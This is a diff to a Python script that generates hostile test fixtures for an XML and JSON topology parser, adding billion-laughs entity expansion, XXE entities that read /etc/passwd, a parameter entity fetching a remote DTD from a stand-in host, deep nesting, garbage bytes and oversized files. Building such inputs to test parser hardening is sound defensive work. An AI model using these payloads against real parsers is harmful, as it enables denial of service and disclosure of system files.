@@ -339,6 +339,47 @@ def main():
     write("topology-deep-object.json", b'{"comment": ' + b'{"a":' * 5000 + b"1" + b"}" * 5000 + b"}")
     doms = ['"d%d.contoso.com"' % i for i in range(50000)]
     write("topology-50000-domains.json", ('{"fqdn": "exch01.contoso.com", "sipDomains": [' + ",".join(doms) + "]}").encode())
+    # Topology XML (Topology Builder form): entity tricks, depth, size, foreign namespaces.
+    tb_ns = b"urn:schema:Microsoft.Rtc.Management.Deploy.TopologyBuilder.2008"
+    wt_ns = b"urn:schema:Microsoft.Rtc.Management.Deploy.WritableTopology.2008"
+
+    def tb(body, prolog=b""):
+        return (b'<?xml version="1.0" encoding="utf-8"?>\n' + prolog + b'<TopologyBuilder xmlns="' + tb_ns +
+                b'"><NewTopology><PartialTopology xmlns="' + wt_ns + b'">' + body +
+                b"</PartialTopology></NewTopology></TopologyBuilder>\n")
+    lol = b"<!DOCTYPE TopologyBuilder [\n<!ENTITY lol0 \"lollollollollollollollollollol\">\n"
+    for i in range(1, 10):
+        lol += b"<!ENTITY lol%d \"" % i + b"&lol%d;" % (i - 1) * 10 + b"\">\n"
+    lol += b"]>\n"
+    write("topology-billion-laughs.tbxml",
+          tb(b'<CentralSites><CentralSite><Clusters><Cluster UniqueId="1" Fqdn="&lol9;"/></Clusters>'
+             b"</CentralSite></CentralSites>", lol))
+    write("topology-xxe.tbxml",
+          tb(b'<CentralSites><CentralSite><Clusters><Cluster UniqueId="1" Fqdn="x&xxe;.contoso.com"/></Clusters>'
+             b"</CentralSite></CentralSites>",
+             b'<!DOCTYPE TopologyBuilder [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'))
+    write("topology-xxe-parameter.tbxml",
+          tb(b"", b'<!DOCTYPE TopologyBuilder [<!ENTITY % remote SYSTEM "http://192.0.2.1/evil.dtd"> %remote;]>\n'))
+    write("topology-external-dtd.tbxml", tb(b"", b'<!DOCTYPE TopologyBuilder SYSTEM "file:///etc/passwd">\n'))
+    write("topology-deep.tbxml", tb(b"<Services>" * 100000 + b"</Services>" * 100000))
+    write("topology-not-xml.tbxml", b"<\x00\xff\xfe\x01garbage" + bytes(range(256)) * 4)
+    write("topology-wrong-ns.tbxml", tb(b"").replace(tb_ns, b"urn:schema:Microsoft.Rtc.Management.Deploy.TopologyBuilder.2009"))
+    write("topology-prefix-only.tbxml",
+          b'<?xml version="1.0"?>\n<tb:TopologyBuilder xmlns:tb="urn:example:look-alike"/>\n')
+    # 2,000 Front End servers, each its own pool with a Registrar (about 0.9 MB): loads.
+    clusters = b"".join(b'<Cluster UniqueId="c%d" Fqdn="fe%d.contoso.com"><Machines><Machine Fqdn="fe%d.contoso.com"/>'
+                        b"</Machines></Cluster>" % (i, i, i) for i in range(2000))
+    services = b"".join(b'<Service RoleName="Registrar" InstalledOn="c%d" ServiceVersion="8"/>' % i for i in range(2000))
+    write("topology-2000-servers.tbxml",
+          tb(b"<CentralSites><CentralSite><Clusters>" + clusters + b"</Clusters></CentralSite></CentralSites>"
+             b"<Services>" + services + b"</Services>"))
+    # 10,001 pools: over the limit of 10,000.
+    write("topology-10001-pools.tbxml",
+          tb(b"<CentralSites><CentralSite><Clusters>" +
+             b"".join(b'<Cluster UniqueId="c%d" Fqdn="p%d.contoso.com"/>' % (i, i) for i in range(10001)) +
+             b"</Clusters></CentralSite></CentralSites>"))
+    # 600,000 empty elements (4.2 MB): over the limit of 500,000 elements.
+    write("topology-600000-elements.tbxml", tb(b"<Services>" + b"<x/>" * 600000 + b"</Services>"))
     # A CRL with 100,000 entries, signed by the issuing CA.
     revoked = b"".join(seq(integer(100000 + i), utctime(NB)) for i in range(100000))
     tbs = seq(integer(1), ECDSA_SHA256, ca_name, utctime(NOW - datetime.timedelta(days=1)),
